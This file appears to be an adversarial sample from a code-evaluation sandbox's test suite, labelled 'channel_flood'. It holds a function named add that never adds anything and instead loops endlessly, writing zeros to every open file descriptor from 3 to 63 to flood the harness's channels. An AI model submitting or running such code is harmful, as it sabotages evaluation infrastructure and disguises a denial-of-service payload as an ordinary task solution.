# attack: channel_flood
# kind: resource   task: func   naive: run
# attempts: write without end into everything that is open but stdout and stderr, never ending a line
import os

def add(a, b):
    while True:
        for fd in range(3, 64):
            try:
                os.write(fd, b"0" * 65536)
            except OSError:
                pass
